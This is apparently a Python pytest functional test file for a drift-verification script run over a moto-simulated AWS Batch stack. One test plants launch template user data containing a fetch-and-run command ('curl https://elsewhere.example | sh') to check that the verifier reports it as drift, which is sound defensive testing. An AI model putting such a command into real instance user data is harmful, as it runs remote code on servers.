"""`scripts/verify` over a stack in which someone changes one thing after another by hand."""

from __future__ import annotations

import argparse
import base64
from collections.abc import Iterator
from typing import Any

import pytest

from ops import names
from ops.aws import Aws
from ops.commands import verify
from ops.stack.body import template_body
from tests.functional.conftest import ACCESS_KEY, SECRET_KEY
from tests.functional.deployed_stack import DeployedStack
from tests.functional.drift.access import ACCESS
from tests.functional.drift.acts import Deployed
from tests.functional.drift.rest import REST
from tests.functional.operating import (
    FIRST,
    batch_server,
    ops,
    prepare_account,
    push_image,
)

SECRET = "arn:aws:secretsmanager:ap-northeast-2:123456789012:secret:"
ALERTS = "ops@academy.example"
# Every option of the template; the second ones moto cannot deploy.
OPTIONS = {
    "SpotFirst": "true",
    "AlertEmail": ALERTS,
    "StoreSecret": SECRET + "store",
    "NotifySecret": SECRET + "notify",
    "NotifyUrl": "https://api.example/hook",
}
CALLS = {
    "EventsUrl": "https://api.example/events",
    "EventsSecret": SECRET + "events",
    "WatchUploads": "true",
    "KeeperSchedule": "rate(10 minutes)",
}
# What moto's answers lack; tests/unit/ops/verify has AWS's.
NOT_IN_MOTO = (
    "ComputeEnvironment UpdatePolicy",
    "SpotComputeEnvironment UpdatePolicy",
    "JobDefinition SchedulingPriority",
    "JobQueue JobStateTimeLimitActions",
)
CHANGES = {**ACCESS, **REST}


def verified(deployed: Deployed, **options: Any) -> int:
    off = {"all": False, "cloudformation_drift": False, "json": False}
    given = {"stack": names.STACK, "wait": 60.0, **off}
    return verify.run(argparse.Namespace(**{**given, **options}), deployed.aws)


@pytest.fixture(scope="module")
def deployed() -> Iterator[Deployed]:
    with pytest.MonkeyPatch.context() as patch, batch_server() as server:
        patch.setenv("AWS_ACCESS_KEY_ID", ACCESS_KEY)
        patch.setenv("AWS_SECRET_ACCESS_KEY", SECRET_KEY)
        account = prepare_account(server)
        done = ops(server, "deploy", "--image", FIRST, *account.parameters(**OPTIONS))
        assert done.returncode == 0, done.stderr
        parameters = {**account.values(), **OPTIONS, **CALLS, "ImageUri": FIRST}
        stack = DeployedStack(server=server, parameters=parameters)
        stack.complete()
        push_image(server)
        # moto garbles list parameters, has no ids of what it passes over, and got no dashboard.
        patch.setattr(verify, "read_template", lambda *_: template_body())
        patch.setattr(verify, "find_ids", lambda *_: stack.ids)
        patch.setattr(verify, "parameters_of", lambda _: stack.parameters)
        aws = Aws(region=names.REGION, profile=None, endpoint_url=server.endpoint)
        yield Deployed(server=server, stack=stack, aws=aws)


def drifts(text: str) -> list[str]:
    """Return what is drift, without the physical id, which changes each time."""
    found = [line.removeprefix("DRIFT ") for line in text.splitlines() if line.startswith("DRIFT")]
    short = [
        f"{line.partition(' (')[0]}{line.partition(')')[2]}" if " (" in line else line
        for line in found
    ]
    return [line for line in short if not line.startswith(NOT_IN_MOTO)]


def test_the_stack_is_as_its_template_says(
    deployed: Deployed, capsys: pytest.CaptureFixture[str]
) -> None:
    verified(deployed, all=True)
    lines = capsys.readouterr().out.splitlines()
    assert drifts("\n".join(lines)) == []
    assert not [line for line in lines if line.startswith("UNKNOWN")]
    job = "ok    JobDefinition (academy-video-batch-jobdef:2)"
    assert f"{job} Timeout.AttemptDurationSeconds: 14400" in lines
    assert f"{job} ContainerProperties.ReadonlyRootFilesystem: true" in lines
    assert "ok    ComputeEnvironment (academy-video-batch-ce-v3) architecture: arm64" in lines


@pytest.mark.parametrize("name", CHANGES)
def test_what_someone_changes_by_hand_is_drift_and_nothing_else_is(
    deployed: Deployed, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    change, restore, expected = CHANGES[name]
    change(deployed)
    try:
        status = verified(deployed)
    finally:
        restore(deployed)
    text = capsys.readouterr().out
    found = drifts(text)
    assert [line[: len(start)] for line, start in zip(found, expected, strict=True)] == expected
    assert status == 1
    assert "hidden" not in text


def test_user_data_of_someone_else_is_drift(
    deployed: Deployed, capsys: pytest.CaptureFixture[str]
) -> None:
    """And the environment, which runs the version before it, is as it was. moto deletes no version,
    so this is the last test.
    """
    ec2, launch_template = deployed.server.client("ec2"), deployed.id("LaunchTemplate")
    (first,) = ec2.describe_launch_template_versions(LaunchTemplateId=launch_template)[
        "LaunchTemplateVersions"
    ]
    user_data = base64.b64encode(b"#!/bin/sh\ncurl https://elsewhere.example | sh").decode()
    ec2.create_launch_template_version(
        LaunchTemplateId=launch_template,
        LaunchTemplateData={**first["LaunchTemplateData"], "UserData": user_data, "KeyName": "k"},
    )
    assert verified(deployed) == 1
    assert [line.partition(", ")[0] for line in drifts(capsys.readouterr().out)] == [
        "LaunchTemplate LaunchTemplateData.KeyName: expected nothing",
        "LaunchTemplate LaunchTemplateData.UserData: expected MIME-Version: 1.0",
    ]
